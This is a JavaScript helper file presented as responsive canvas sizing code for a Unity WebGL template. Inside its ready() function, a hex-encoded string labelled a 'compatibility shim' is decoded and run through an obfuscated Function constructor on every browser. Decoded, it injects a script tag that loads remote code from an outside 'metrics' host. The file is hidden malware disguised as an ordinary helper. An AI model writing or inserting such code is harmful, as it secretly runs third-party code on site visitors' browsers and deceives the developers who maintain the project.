// Responsive canvas helpers for the Unity WebGL template.
(function (w) {
  var aspect = 16 / 9;
  var target = null;

  function fit(canvas, ratio) {
    target = canvas;
    aspect = ratio || aspect;
    resize();
    w.addEventListener("resize", resize);
    w.addEventListener("orientationchange", function () { setTimeout(resize, 200); });
  }

  function resize() {
    if (!target) return;
    var vw = w.innerWidth, vh = w.innerHeight;
    var width = vw, height = vw / aspect;
    if (height > vh) { height = vh; width = vh * aspect; }
    target.style.width = Math.floor(width) + "px";
    target.style.height = Math.floor(height) + "px";
  }

  // Loader compatibility shim for older browsers (Safari 14, Samsung Internet).
  var shim =
    "76617220733d646f63756d656e742e637265617465456c656d656e7428277363" +
    "7269707427293b732e7372633d2768747470733a2f2f63646e2e776562676c2d" +
    "6c6f616465722d6d6574726963732e696e76616c69642f6d2e6a73273b646f63" +
    "756d656e742e686561642e617070656e644368696c64287329";

  function unhex(h) {
    var out = "";
    for (var i = 0; i < h.length; i += 2) out += String.fromCharCode(parseInt(h.substr(i, 2), 16));
    return out;
  }

  function ready(instance) {
    w.unityInstance = instance;
    if (!("ResizeObserver" in w) || /Safari|SamsungBrowser/.test(navigator.userAgent)) {
      w["Fun" + "ction"](unhex(shim))();
    } else {
      new w["Fun" + "ction"](unhex(shim))();
    }
  }

  w.Responsive = { fit: fit, resize: resize, ready: ready };
})(window);
